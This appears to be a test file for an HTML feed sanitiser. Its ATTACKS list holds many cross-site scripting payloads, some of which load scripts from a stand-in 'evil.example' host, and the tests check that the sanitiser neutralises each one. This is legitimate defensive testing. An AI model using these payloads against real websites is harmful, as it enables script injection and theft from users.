import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { sanitise } from '../../../functions/feed/sanitise';
import { character } from '../../character';
import { cpuMs } from '../../cpu-time';

const BASE = 'https://news.example/blog/';
const PAGE = 'https://news.example/blog/post.html';

const REL = 'rel="noopener noreferrer nofollow"';

const clean = (html: string) => sanitise(html, BASE, PAGE);

const SAFE_TAGS = new Set(
  'a abbr address article aside audio b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p picture pre q rp rt ruby s samp section small source span strong sub summary sup table tbody td tfoot th thead time tr tt u ul var video wbr'.split(
    ' ',
  ),
);
const SAFE_ATTRIBUTES = new Set(
  'alt cite colspan controls datetime dir height href lang media open poster rel reversed rowspan scope span src srcset start title type value width'.split(
    ' ',
  ),
);

/** Everything in some markup that could harm a reader. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!SAFE_TAGS.has(name)) found.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (!SAFE_ATTRIBUTES.has(attribute)) found.push(attribute);
        const isUrl = ['href', 'src', 'poster', 'cite'].includes(attribute);
        if (isUrl && !/^(?:https?:\/\/|mailto:)/i.test(value)) found.push(`${attribute}=${value}`);
        if (attribute === 'srcset' && !value.split(', ').every((source) => /^https?:\/\//.test(source)))
          found.push(value);
      }
    },
    oncomment: () => found.push('comment'),
    onprocessinginstruction: (_, data) => found.push(data),
  });
  parser.end(html);
  return found;
}

/** How many elements are open at the end of some markup, or closed too often. */
function imbalance(html: string): number {
  const open: string[] = [];
  let wrong = 0;
  for (const [, slash, name = '', selfClosed] of html.matchAll(/<(\/?)([a-z0-9]+)[^>]*?(\/?)>/g)) {
    if (slash) wrong += open.pop() === name ? 0 : 1;
    else if (!selfClosed) open.push(name);
  }
  return wrong + open.length;
}

describe('keeps', () => {
  it.each([
    ['structure', '<h2>A</h2><p>b <em>c</em> <strong>d</strong><br />e</p><hr />'],
    [
      'lists',
      '<ul><li>a</li></ul><ol start="3" reversed><li value="9">b</li></ol><dl><dt>c</dt><dd>d</dd></dl>',
    ],
    [
      'tables',
      '<table><caption>c</caption><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table>',
    ],
    [
      'quotes and code',
      '<blockquote cite="https://a.example/">q</blockquote><pre><code>if (a &lt; b &amp;&amp; c) {}\n</code></pre>',
    ],
    [
      'figures',
      '<figure><img src="https://a.example/x.png" alt="An x" width="640" height="480" /><figcaption>x</figcaption></figure>',
    ],
    ['empty alternative texts', '<img src="https://a.example/x.png" alt="" />'],
    [
      'pictures',
      '<picture><source type="image/webp" srcset="https://a.example/x.webp 2x" /><img src="https://a.example/x.png" /></picture>',
    ],
    [
      'media',
      '<video src="https://a.example/v.mp4" poster="https://a.example/p.png" controls></video><audio controls><source src="https://a.example/a.mp3" type="audio/mpeg" /></audio>',
    ],
    ['details', '<details open><summary>s</summary>d</details>'],
    ['languages', '<p lang="ar" dir="rtl">سلام</p><abbr title="et cetera">etc</abbr>'],
    ['times', '<time datetime="2004-05-06">then</time>'],
    ['text', 'a &lt;b&gt; &amp; c'],
  ])('%s', (_, html) => {
    expect(clean(html)).toBe(html);
  });
});

describe('changes', () => {
  it.each([
    [
      'a link',
      '<a href="/x" target="_blank" class="y">x</a>',
      '<a href="https://news.example/x" rel="noopener noreferrer nofollow">x</a>',
    ],
    [
      'a relation',
      '<a href="https://a.example/" rel="opener">x</a>',
      '<a href="https://a.example/" rel="noopener noreferrer nofollow">x</a>',
    ],
    [
      'a link to a note',
      '<a href="#n1">1</a>',
      '<a href="https://news.example/blog/post.html#n1" rel="noopener noreferrer nofollow">1</a>',
    ],
    [
      'a mail address',
      '<a href="mailto:a@b.example">x</a>',
      '<a href="mailto:a@b.example" rel="noopener noreferrer nofollow">x</a>',
    ],
    [
      'a mail with a subject',
      '<a href=" MAILTO:a@b.example?subject=A fish">x</a>',
      '<a href="MAILTO:a@b.example?subject=A%20fish" rel="noopener noreferrer nofollow">x</a>',
    ],
    [
      'tracking',
      '<a href="https://a.example/?utm_source=f&amp;id=1">x</a>',
      '<a href="https://a.example/?id=1" rel="noopener noreferrer nofollow">x</a>',
    ],
    [
      'an image',
      '<img src="x.png" onerror="alert(1)" style="x" id="y">',
      '<img src="https://news.example/blog/x.png" />',
    ],
    [
      'a set of images',
      '<img src="a.png" srcset="a.png 1x,b.png 2x, javascript:x 3x">',
      '<img src="https://news.example/blog/a.png" srcset="https://news.example/blog/a.png 1x, https://news.example/blog/b.png 2x" />',
    ],
    [
      'an image that a script would load',
      '<img src="data:image/gif;base64,R0" data-src="x.png">',
      '<img src="https://news.example/blog/x.png" />',
    ],
    [
      'a frame',
      '<iframe src="//video.example/1" title="A film"></iframe>!',
      '<a href="https://video.example/1" rel="noopener noreferrer nofollow">A film</a>!',
    ],
    [
      'a frame without title',
      '<iframe src="https://video.example/1"/>!',
      '<a href="https://video.example/1" rel="noopener noreferrer nofollow">https://video.example/1</a>!',
    ],
    ['open elements', '<p>a<b>b', '<p>a<b>b</b></p>'],
    ['elements closed too often', 'a</p></div>b', 'ab'],
    ['elements in disorder', '<b>a<i>b</b>c</i>', '<b>a<i>b</i></b>c'],
    ['paragraphs without end', '<p>a<p>b<div>c</div>', '<p>a</p><p>b</p><div>c</div>'],
    [
      'items without end',
      '<ul><li>a<li><p>b<ul><li>c</ul><li>d</ul>',
      '<ul><li>a</li><li><p>b</p><ul><li>c</li></ul></li><li>d</li></ul>',
    ],
    [
      'cells without end',
      '<table><tr><td>a<td>b<tr><th>c</table>',
      '<table><tr><td>a</td><td>b</td></tr><tr><th>c</th></tr></table>',
    ],
    [
      'a link in a link',
      '<a href="/x">a<b>b<a href="/y">c</a>',
      `<a href="https://news.example/x" ${REL}>a<b>b</b></a><a href="https://news.example/y" ${REL}>c</a>`,
    ],
    ['control characters', 'a&#1;b\x02c\ufffe\ud800', 'abc'],
    [
      'entities',
      '&eacute;&nbsp;&#8217;&#x2019;&#146;&lt;b&gt;&copy &unknown; &',
      'é\u00a0’’’&lt;b&gt;© &amp;unknown; &amp;',
    ],
    ['upper case', '<P TITLE=x>a</P>', '<p title="x">a</p>'],
    [
      'bare and doubled attributes',
      "<img src=x.png alt='a\"b' src=y.png ALT=c>",
      '<img src="https://news.example/blog/x.png" alt="a&quot;b" />',
    ],
    ['elements of XHTML', '<p/>a<br/>b<br></br>c<br >', '<p></p>a<br />b<br /><br />c<br />'],
    ['what was wrapped twice', '<![CDATA[<p>a</p>]]>', '<p>a</p>'],
    [
      'an image of a script, with a placeholder',
      '<img src="/blank.gif" data-src="x.png" data-srcset="y.png 2x">',
      '<img src="https://news.example/blog/x.png" srcset="https://news.example/blog/y.png 2x" />',
    ],
    ['what looks like tags', '1 < 2 <3 a<>b </> <-', '1 &lt; 2 &lt;3 a&lt;&gt;b  &lt;-'],
  ])('%s', (_, html, expected) => {
    expect(clean(html)).toBe(expected);
  });
});

describe('drops', () => {
  it.each([
    ['scripts', 'a<script>alert("b")</script>c', 'ac'],
    ['styles', 'a<style>b { color: red }</style>c', 'ac'],
    ['comments', 'a<!-- b -->c', 'ac'],
    ['forms', '<form action="/x"><input name="y"><button>Go</button></form>c', 'Goc'],
    ['drawings', '<svg><title>b</title><circle r="1"/></svg>c', 'c'],
    ['what shows without scripts', '<noscript><img src="x.png"></noscript>c', 'c'],
    ['tracking pixels', 'a<img src="https://a.example/p.gif" width="1" height="1">c', 'ac'],
    ["FeedBurner's pixels", 'a<img src="http://feeds.feedburner.com/~r/n/~4/x">c', 'ac'],
    ['points by their style', 'a<img src="https://a.example/p" style="width: 1px; height:1px">c', 'ac'],
    ['selections', 'a<select><option>b</select>c', 'ac'],
    ['templates', 'a<template><p>b</p><template>x</template></template>c', 'ac'],
    ['code that does not end', 'a<script>b<p>c', 'a'],
    ['elements only, where text that is no markup does not end', 'a<title>b<p>c', 'ab<p>c</p>'],
    ['comments of every kind', 'a<!-->b<!--->c<!-- - -- > -->d<!x>e<?y?>f<!-- g', 'abcdef'],
    ['images without address', 'a<img alt="b">c', 'ac'],
    ['embedded data', 'a<img src="data:image/png;base64,AAAA">c', 'ac'],
    ['frames of no address', 'a<iframe src="javascript:alert(1)"></iframe>c', 'ac'],
    ['classes and ids', '<p class="a" id="b" data-c="d">e</p>', '<p>e</p>'],
  ])('%s', (_, html, expected) => {
    expect(clean(html)).toBe(expected);
  });
});

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert("1")`>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>',
  '<IMG SRC="jav\tascript:alert(1);">',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC=" &#14;  javascript:alert(1);">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="https://a.example/" onmouseover="alert(1)">x</a>',
  '<a href="https://a.example/" style="background:url(javascript:alert(1))">x</a>',
  '<a xlink:href="javascript:alert(1)" href="//evil.example">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://a.example/" title="<img src=x onerror=alert(1)>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf" allowscriptaccess=always>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)>',
  '<base href="javascript:alert(1)//"><a href="x">x</a>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="width: expression(alert(1))">x</div>',
  '<video><source onerror="alert(1)"></video>',
  '<video poster=javascript:alert(1) src=x></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<x onclick=alert(1)>x</x>',
  '<img src="https://a.example/&quot; onerror=&quot;alert(1)">',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<img src=x srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
  '<a href="https://a.example/" ping="https://evil.example/">x</a>',
  '<img src="https://a.example/x.png" usemap="#m" ismap longdesc="javascript:alert(1)">',
  '\u003cimg src=1 onerror=alert(1)\u003e',
  '<a href="https:javascript:alert(1)">x</a>',
  '<img src=x onerror=alert(1)//',
  '<img/src="x"/onerror=alert(1)>',
  '<img\x0csrc=x\x0conerror=alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<a href=java&#1&#2script:alert(1)>x</a>',
  '<a href="&#x6a;&#97vascript:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="java&NewLine;script&colon;alert(1)">x</a>',
  '<a href="\u00a0javascript:alert(1)">x</a>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '<a href="javascript://%0aalert(1)">x</a>',
  '<a href="//javascript:alert(1)">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="blob:https://a.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="mailto:a@b.example?subject=%0d%0a"><img src=x onerror=alert(1)></a>',
  '<a href="mailto:x"onclick="alert(1)">x</a>',
  '<a href="https://a.example/\'onclick=alert(1)//">x</a>',
  '<a href=`javascript:alert(1)`>x</a>',
  '<a href=javascript&#58alert(1)>x</a>',
  '<a title="</a><img src=x onerror=alert(1)>">x</a>',
  "<a title='\"><img src=x onerror=alert(1)>'>x</a>",
  '<img alt="` onerror=alert(1) `" src=x>',
  '<img alt="<!--" src=x><img alt="--><script>alert(1)</script>" src=x>',
  '<p id="x" name="y" class="z" form="f" is="x-y" slot="s" part="p">clobbered</p>',
  '<form id=x></form><button form=x formaction=javascript:alert(1)>x',
  '<isindex action=javascript:alert(1) type=submit>',
  '<keygen autofocus onfocus=alert(1)>',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<applet code="x.class" archive="https://evil.example/x.jar"></applet>',
  '<bgsound src="javascript:alert(1)">',
  '<layer src="https://evil.example/x.js"></layer>',
  '<xml id=i><x><c><![CDATA[<img src="javas]]><![CDATA[cript:alert(1)">]]></c></x></xml>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  '<style><!--</style><img src=x onerror=alert(1)>--></style>',
  "<style>@import'javascript:alert(1)';</style>",
  '<style/><img src=x onerror=alert(1)></style>',
  '<script><!--<script></script><img src=x onerror=alert(1)>--></script>',
  '<script/><img src=x onerror=alert(1)></script>',
  '<ScRiPt >alert(1)</sCrIpT\n>',
  '</script><script>alert(1)</script>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style></p></svg>',
  '<svg><title><![CDATA[</title><script>alert(1)</script>]]></title></svg>',
  '<svg><foreignObject><math><mi><mglyph><style><img src=x onerror=alert(1)>',
  '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"></use></svg>',
  '<svg><set attributeName=href to=javascript:alert(1)>',
  '<svg/onload=alert(1)//',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<table><caption><svg><title><table><style><img src=x onerror=alert(1)></style></table></title></svg></caption></table>',
  '<select><style></select><img src=x onerror=alert(1)></style></select>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
  '<template><style><!--</template><img src=x onerror=alert(1)>--></style>',
  '<p><svg><style></p><img src=x onerror=alert(1)>',
  '<textarea></textarea\n><img src=x onerror=alert(1)>',
  '<title></title/x><img src=x onerror=alert(1)>',
  '<a href="https://a.example/"\x00onclick=alert(1)>x</a>',
  '<\x00script>alert(1)</script>',
  '<s\x00cript>alert(1)</s\x00cript>',
  '<sc\u017fript>alert(1)</script>',
  '<\u0130mg src=x onerror=alert(1)>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<!-- <!-- --><img src=x onerror=alert(1)> -->',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<?php echo "<script>alert(1)</script>"; ?>',
  '<% <script>alert(1)</script> %>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="data:image/svg+xml,<svg onload=alert(1)> 1x" src=x>',
  '<img srcset=",javascript:alert(1),https://a.example/x.png 1x,,">',
  '<picture><source srcset="javascript:alert(1)" onerror=alert(1)></picture>',
  '<video src="javascript:alert(1)" poster="vbscript:x" onloadstart=alert(1)></video>',
  '<details ontoggle=alert(1) open=javascript:alert(1)>',
  '<td background="javascript:alert(1)">x</td>',
  '<table background="javascript:alert(1)" dynsrc="javascript:alert(1)">x</table>',
  '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
  '<p dir=rtl contenteditable onfocus=alert(1) tabindex=1 autofocus accesskey=x>x</p>',
  "<time datetime='\"><script>alert(1)</script>'>x</time>",
  '<ol type="1\\"onmouseover=alert(1)" start="x&quot;onclick=&quot;">x</ol>',
  '<q cite="data:text/html,x"><del cite="javascript:x">x</del></q>',
];

describe('attacks', () => {
  it.each(ATTACKS)('%s', (attack) => {
    expect(dangers(clean(attack))).toEqual([]);
    expect(dangers(clean(`<p>before ${attack} after</p>`))).toEqual([]);
  });

  it('are seen by this test', () => {
    expect(dangers(ATTACKS.join('')).length).toBeGreaterThan(30);
  });

  it('in any mixture', () => {
    const piece = fc.oneof(
      fc.constantFrom(...ATTACKS),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '`',
        '&',
        '/',
        '=',
        '<!--',
        '-->',
        ']]>',
        '<a href=',
        '<img ',
        '</p>',
        '&lt;',
        '&#60;',
        '\0',
      ),
      fc.string({ unit: character, maxLength: 10 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const html = clean(pieces.join(''));
        expect(dangers(html)).toEqual([]);
        expect(imbalance(html)).toBe(0);
      }),
      { numRuns: 500 },
    );
  });
});

it('changes nothing the second time', () => {
  fc.assert(
    fc.property(
      fc.array(fc.constantFrom(...ATTACKS, '<p>a</p>', '<a href="/x">b</a>', 'c &amp; d')),
      (pieces) => {
        const once = clean(pieces.join(''));
        expect(clean(once)).toBe(once);
      },
    ),
  );
});

describe('what is too much', () => {
  const started = cpuMs();
  it.each([
    ['nested elements', '<div>'.repeat(100_000)],
    ['nested elements, closed by others', '<b>'.repeat(100_000) + '</i>'.repeat(100_000)],
    ['attributes', `<p ${Array.from({ length: 100_000 }, (_, i) => `a${i}="1"`).join(' ')}>x</p>`],
    ['sources', `<img src="x.png" srcset="${'a 1x, '.repeat(100_000)}">`],
    ['text', 'word '.repeat(3_000_000)],
    ['links', '<a href="/x">link</a> '.repeat(500_000)],
    ['a link', `<a href="/${'x'.repeat(1_000_000)}">x</a>`],
    ['open tags', '<a '.repeat(500_000)],
    ['comments', '<!--'.repeat(500_000)],
    ['entities', '&amp'.repeat(500_000)],
  ])('%s', (_, html) => {
    const content = clean(html);
    expect(content.length).toBeLessThan(202_000);
    expect(imbalance(content)).toBe(0);
  });

  it('takes no time', () => {
    expect(cpuMs() - started).toBeLessThan(10_000);
  });

  it('is cut between words, with all elements closed', () => {
    const content = clean(`<div>${'<p>some <b>bold</b> words</p>'.repeat(9_000)}</div>`);
    expect(content.length).toBeGreaterThan(190_000);
    expect(content).toMatch(/<\/div>$/);
    expect(content.replaceAll(/<p>some <b>bold<\/b> words<\/p>/g, '')).toMatch(
      /^<div>(<p>(some( <b>(bold)?<\/b>)?)?<\/p>)?<\/div>$/,
    );
  });
});
